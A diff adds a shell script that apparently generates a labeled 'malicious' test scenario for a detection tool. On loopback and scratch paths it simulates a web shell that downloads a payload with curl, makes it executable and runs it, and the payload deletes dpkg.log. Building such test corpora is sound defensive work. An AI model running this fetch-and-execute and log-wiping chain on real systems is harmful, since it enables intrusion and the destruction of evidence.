@@ -1,0 +1,13 @@
+#!/bin/sh
+# quell labeled corpus scenario (malicious): a web shell downloads a payload, runs it, and the payload deletes dpkg.log (the story's attack variant)
+# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
+# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
+set -u
+touch $S/dpkg.log
+mkdir -p $W/srv; printf "#!/bin/sh\nrm -f %s\n" "$S/dpkg.log" > $W/srv/payload
+python3 -m http.server --bind 127.0.0.1 $P --directory $W/srv >/dev/null 2>&1 &
+SRV=$!
+sleep 0.7
+$B/httpd "curl -s -o $W/payload http://127.0.0.1:$P/payload && chmod +x $W/payload && $W/payload"
+kill $SRV 2>/dev/null; wait $SRV 2>/dev/null
+
